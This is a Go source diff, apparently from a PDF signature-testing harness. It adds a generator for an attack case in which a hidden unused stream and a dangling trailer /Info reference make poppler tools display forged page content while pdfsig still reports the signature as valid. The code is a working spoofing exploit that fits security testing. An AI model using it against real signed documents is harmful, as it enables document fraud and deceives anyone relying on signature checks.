@@ -102,6 +102,11 @@ func structure(p *PKI, b *Base) ([]Case, error) {
 				Evidence{Hides: b.Marker})
 		},
 		func() ([]Case, error) {
+			doc, err := rebuiltByPoppler(b.PDF)
+			return attack(ClassStructure, b, "forged page content hidden in an unused stream, trailer /Info naming a missing object", doc, err,
+				Evidence{Shows: ForgedText, Hides: b.Marker})
+		},
+		func() ([]Case, error) {
 			doc, err := encryptedLater(b.PDF)
 			return attack(ClassStructure, b, "/Encrypt (RC4, empty user password) added by an update", doc, err, Evidence{Hides: b.Marker, Renders: true})
 		},
@@ -222,6 +227,41 @@ func cutInObjectStream(doc []byte, decrease bool) ([]byte, error) {
 	}
 	return Append(doc, Update{Form: XRefStream, Packed: map[int]string{page.ID: "", n: ""},
 		ObjStmDict: fmt.Sprintf("/N 2 /First %d", len(head)), ObjStmData: []byte(head + data)})
+}
+
+// rebuiltByPoppler appends to doc a classic update that adds an unused
+// stream whose data holds, on lines of their own, a definition of page
+// 1's content stream showing the forged text, and whose trailer's /Info
+// names an object no section defines. ISO 32000-1 reads that reference as
+// null, as qpdf does. poppler, when a fetch fails in a file whose newest
+// section is a table, rebuilds the table from every "N G obj" at the start
+// of a line — inside stream data too, a later one winning — and pdftotext
+// and pdftoppm fetch /Info when they open the file: they show the forged
+// page, and pdfsig the signature as valid.
+func rebuiltByPoppler(doc []byte) ([]byte, error) {
+	page, err := PageOf(doc, 1)
+	if err != nil {
+		return nil, err
+	}
+	n, err := Size(doc)
+	if err != nil {
+		return nil, err
+	}
+	hidden := fmt.Sprintf("\n%d 0 obj\n%s\nendobj\n", page.Contents, Stream("", forgedContent("F1")))
+	out, err := Append(doc, Update{Objects: map[int]string{n: Stream("", hidden)}})
+	if err != nil {
+		return nil, err
+	}
+	at := bytes.LastIndex(out, []byte("trailer\n<< "))
+	if at < 0 {
+		return nil, errors.New("no trailer in the update")
+	}
+	at += len("trailer\n<< ")
+	info := fmt.Sprintf("/Info %d 0 R ", n+1000)
+	if bytes.Contains(out[at:], []byte("/Info ")) {
+		return nil, errors.New("the trailer already has /Info")
+	}
+	return append(append(bytes.Clone(out[:at]), info...), out[at:]...), nil
 }
 
 // passwordPad is the padding of ISO 32000-1, 7.6.3.3, Algorithm 2.
